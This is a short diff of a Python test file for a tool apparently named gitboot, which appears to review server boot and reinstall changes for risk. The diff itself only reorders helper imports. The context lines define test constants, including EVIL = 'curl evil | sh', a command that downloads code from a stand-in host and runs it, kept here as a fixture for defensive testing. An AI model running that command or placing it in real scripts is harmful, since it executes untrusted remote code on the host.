@@ -21,9 +21,9 @@ from gitboot.review.reinstalls import Why
 from gitboot.review.review import Review, ReviewOutcome
 from gitboot.review.risks import Risk
 from tests.helpers.cases import for_each
+from tests.helpers.evaluations import FLEET, SERVERS, USER_DATA, Files, compared, reviewed
 from tests.helpers.fleets import fleet, image, mac_of, maintenance, policy, profile, server
-from tests.helpers.repositories import Work
-from tests.helpers.reviewed_changes import FLEET, SERVERS, USER_DATA, Files, compared, reviewed
+from tests.helpers.git_repositories import Work
 
 EVIL: Final = "curl evil | sh"
 CLAIM: Final = "writesDisk: false"
